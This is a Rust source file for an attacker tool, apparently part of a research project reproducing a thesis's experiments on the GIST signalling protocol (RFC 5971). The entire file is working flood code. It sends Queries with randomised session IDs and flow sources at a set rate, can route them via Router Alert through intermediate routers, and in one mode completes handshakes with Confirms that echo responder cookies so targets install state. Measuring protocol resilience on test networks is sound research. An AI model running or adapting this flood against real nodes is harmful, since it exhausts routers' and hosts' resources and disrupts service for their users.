//! `pathwise gist attack`: the thesis's attacker tool (seed 000 §4.5.1), for test networks
//! only. It floods a GIST node with Queries for fresh sessions and, in `query-confirm` mode,
//! answers every Response with a Confirm echoing the Responder-Cookie, so that the handshake
//! completes and the responder installs state (Table 4.2's four scenarios are the two modes
//! against `cookie_mode = "hash"` and `"random"`).
//!
//! Like the thesis's tool it runs no GIST engine: each Query is a valid message built from a
//! template with a fresh Session ID, a fresh flow source (the MRI) and a fresh Peer Identity
//! (the NLI), so every Query looks like another querying node's. The IP source is the
//! attacker's own address (the NLI's interface address), where the Responses must come back
//! for `query-confirm`; the Peer Identity is derived from the Session ID, so that the Confirm
//! carries the Query's NLI without the attacker keeping any state per Query.

use pathwise_core::rand::Rng as _;
use pathwise_gist::wire::{
    Body, Confirm, Cookie, GIST_PORT, Message, Mri, Nli, PathCoupledMri, Query, SessionId,
};
use serde_json::json;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, UdpSocket};
use std::time::{Duration, Instant};

/// What to send.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum Mode {
    /// Queries only: all of the rate.
    Query,
    /// Queries and a Confirm per Response: the rate is split between them (thesis §4.5.1).
    QueryConfirm,
}

/// Arguments of `pathwise gist attack`.
#[derive(Debug, clap::Args)]
pub struct AttackArgs {
    /// The GIST node attacked (its address; Queries go to its UDP port 270).
    target: IpAddr,
    /// Queries only, or Queries answered by Confirms.
    #[arg(long, value_enum, default_value = "query")]
    mode: Mode,
    /// GIST messages per second, in total (thesis: about 500).
    #[arg(long, default_value_t = 500)]
    rate: u32,
    /// How long to attack.
    #[arg(long, default_value = "10s", value_parser = super::cli::duration)]
    duration: Duration,
    /// NSLPID the Queries name (the Ping NSLP's by default: the target must serve it).
    #[arg(long, default_value_t = pathwise_gist::nslp::ping::NSLPID)]
    nslpid: u16,
    /// Routing State Validity Time the attacker's NLI claims (how long installed state lasts;
    /// thesis: 30 s).
    #[arg(long, default_value = "30s", value_parser = super::cli::duration)]
    validity: Duration,
    /// Flow sources are drawn from this /16 (IPv4) or /48 (IPv6) prefix's first address.
    #[arg(long)]
    flow_sources: Option<IpAddr>,
    /// Send the Queries as Q-mode messages in transit (RFC 5971 §5.3.2): towards the target
    /// with the IP Router Alert option carrying this value, so that every GIST-aware router on
    /// the path intercepts them (needs CAP_NET_RAW). Without it they are addressed to the
    /// target's port 270 with no Router Alert.
    #[arg(long)]
    router_alert: Option<u16>,
}

/// How the attacker's datagrams leave: an ordinary UDP socket (to the target), or a raw one
/// that adds Router Alert (towards the target, through the routers).
enum Sender {
    Plain(UdpSocket),
    Transit {
        raw: Box<pathwise_net::RaUdpSocket>,
        reply: UdpSocket,
        src: IpAddr,
        port: u16,
        target: IpAddr,
        value: u16,
    },
}

impl Sender {
    fn send(&self, payload: &[u8]) -> std::io::Result<()> {
        match self {
            Sender::Plain(s) => s.send(payload).map(|_| ()),
            Sender::Transit {
                raw,
                src,
                port,
                target,
                value,
                ..
            } => raw.send(&pathwise_core::io::Transmit {
                src: Some(*src),
                dst: *target,
                ifindex: None,
                transport: pathwise_core::io::Transport::Udp {
                    src_port: *port,
                    dst_port: GIST_PORT,
                },
                router_alert: Some(*value),
                ttl: 64,
                payload: payload.to_vec(),
            }),
        }
    }

    fn recv(&self, buf: &mut [u8]) -> std::io::Result<usize> {
        match self {
            Sender::Plain(s) | Sender::Transit { reply: s, .. } => s.recv(buf),
        }
    }
}

/// Run the attack and print what was sent and received.
pub fn run(a: &AttackArgs, json_out: bool) -> anyhow::Result<()> {
    anyhow::ensure!(a.rate > 0, "--rate must be at least 1");
    let any: IpAddr = if a.target.is_ipv4() {
        Ipv4Addr::UNSPECIFIED.into()
    } else {
        Ipv6Addr::UNSPECIFIED.into()
    };
    let sock = UdpSocket::bind((any, 0))?;
    sock.connect((a.target, GIST_PORT))?;
    sock.set_nonblocking(true)?;
    let me = sock.local_addr()?.ip();
    let sock = match a.router_alert {
        None => Sender::Plain(sock),
        Some(value) => {
            let family = if a.target.is_ipv4() {
                pathwise_net::Family::V4
            } else {
                pathwise_net::Family::V6
            };
            // Responses come back to the Query's source port (RFC 5971 §5.3.2.3) from whichever
            // router took the Query: an unconnected socket listens there; the raw one sends.
            drop(sock);
            let reply = UdpSocket::bind((me, 0))?;
            reply.set_nonblocking(true)?;
            let port = reply.local_addr()?.port();
            Sender::Transit {
                raw: Box::new(
                    pathwise_net::RaUdpSocket::open(
                        family,
                        0,
                        pathwise_net::RawOptions::default(),
                        false,
                    )
                    .map_err(|e| anyhow::anyhow!("--router-alert needs a raw socket ({e})"))?,
                ),
                reply,
                src: me,
                port,
                target: a.target,
                value,
            }
        }
    };
    let mut rng = pathwise_core::rng::seeded(pathwise_core::rand::random());
    let flow_base = a.flow_sources.unwrap_or(if a.target.is_ipv4() {
        IpAddr::V4(Ipv4Addr::new(198, 18, 0, 0))
    } else {
        "2001:2::".parse().unwrap_or(any)
    });
    let validity_ms = u32::try_from(a.validity.as_millis()).unwrap_or(u32::MAX);
    let nli = |sid: &SessionId| Nli {
        ip_ttl: 64,
        rs_validity_ms: validity_ms,
        peer_identity: sid.0[..].into(),
        interface_address: me,
    };
    let query_rate = match a.mode {
        Mode::Query => f64::from(a.rate),
        Mode::QueryConfirm => f64::from(a.rate) / 2.0,
    };
    let interval = Duration::from_secs_f64(1.0 / query_rate);
    let start = Instant::now();
    let end = start + a.duration;
    let mut next = start;
    let (mut queries, mut confirms, mut responses, mut errors, mut other, mut send_errors) =
        (0u64, 0u64, 0u64, 0u64, 0u64, 0u64);
    let mut buf = vec![0u8; 65536];
    let mut out = Vec::with_capacity(512);
    while Instant::now() < end {
        // Queries due, at most a burst of 64 when behind.
        let mut burst = 0;
        while next <= Instant::now() && burst < 64 {
            let mut sid = [0u8; 16];
            rng.fill(&mut sid);
            let sid = SessionId(sid);
            let q = Message {
                gist_hops: 32,
                nslpid: a.nslpid,
                c_flag: true,
                s_flag: true,
                r_flag: true,
                e_flag: false,
                body: Body::Query(Query {
                    mri: Mri::PathCoupled(PathCoupledMri::flow(
                        vary(flow_base, &mut rng),
                        a.target,
                    )),
                    nli: nli(&sid),
                    session_id: sid,
                    query_cookie: Cookie(rng.random::<u32>().to_be_bytes()[..].into()),
                    ..Query::default()
                }),
            };
            out.clear();
            q.emit_datagram(&mut out);
            match sock.send(&out) {
                Ok(()) => queries += 1,
                Err(_) => send_errors += 1,
            }
            next += interval;
            burst += 1;
        }
        // Responses (and anything else) back.
        while let Ok(n) = sock.recv(&mut buf) {
            match Message::parse_datagram(&buf[..n]).map(|m| m.body) {
                Ok(Body::Response(r)) => {
                    responses += 1;
                    if a.mode != Mode::QueryConfirm {
                        continue;
                    }
                    let c = Message {
                        gist_hops: 32,
                        nslpid: a.nslpid,
                        c_flag: false,
                        s_flag: true,
                        r_flag: false,
                        e_flag: false,
                        body: Body::Confirm(Confirm {
                            mri: r.mri.with_direction(false),
                            nli: nli(&r.session_id),
                            session_id: r.session_id,
                            responder_cookie: r.responder_cookie,
                            ..Confirm::default()
                        }),
                    };
                    out.clear();
                    c.emit_datagram(&mut out);
                    match sock.send(&out) {
                        Ok(()) => confirms += 1,
                        Err(_) => send_errors += 1,
                    }
                }
                Ok(Body::Error(_)) => errors += 1,
                _ => other += 1,
            }
        }
        let wait = next
            .min(end)
            .saturating_duration_since(Instant::now())
            .min(Duration::from_millis(1));
        if !wait.is_zero() {
            std::thread::sleep(wait);
        }
    }
    let secs = start.elapsed().as_secs_f64();
    let summary = json!({
        "target": a.target,
        "mode": match a.mode { Mode::Query => "query", Mode::QueryConfirm => "query-confirm" },
        "seconds": secs,
        "queries": queries,
        "confirms": confirms,
        "responses": responses,
        "errors_received": errors,
        "other_received": other,
        "send_errors": send_errors,
        "messages_per_second": (queries + confirms) as f64 / secs,
    });
    if json_out {
        println!("{}", serde_json::to_string_pretty(&summary)?);
    } else {
        println!(
            "attacked {} for {secs:.1} s: {queries} Queries, {confirms} Confirms ({:.0} msg/s); \
             {responses} Responses, {errors} Errors back",
            a.target,
            summary["messages_per_second"].as_f64().unwrap_or(0.0)
        );
    }
    Ok(())
}

/// A flow source near `base`: its /16 (IPv4) or low 64 bits (IPv6) drawn at random.
fn vary(base: IpAddr, rng: &mut impl pathwise_core::rand::Rng) -> IpAddr {
    match base {
        IpAddr::V4(v) => {
            let o = v.octets();
            let r: u16 = rng.random();
            IpAddr::V4(Ipv4Addr::new(o[0], o[1], (r >> 8) as u8, r as u8))
        }
        IpAddr::V6(v) => {
            let hi = u128::from(v) & !u128::from(u64::MAX);
            IpAddr::V6(Ipv6Addr::from(hi | u128::from(rng.random::<u64>())))
        }
    }
}
